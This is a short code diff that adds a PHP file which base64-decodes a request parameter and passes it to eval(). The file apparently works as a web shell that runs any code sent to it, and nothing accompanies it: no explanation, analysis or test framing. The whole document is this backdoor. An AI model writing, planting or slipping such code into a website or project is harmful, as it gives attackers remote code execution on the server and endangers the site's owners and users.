@@ -1,0 +1,5 @@
+<?php
+$input = $_REQUEST['q'];
+$code = trim($input);
+$run = base64_decode($code);
+eval($run);
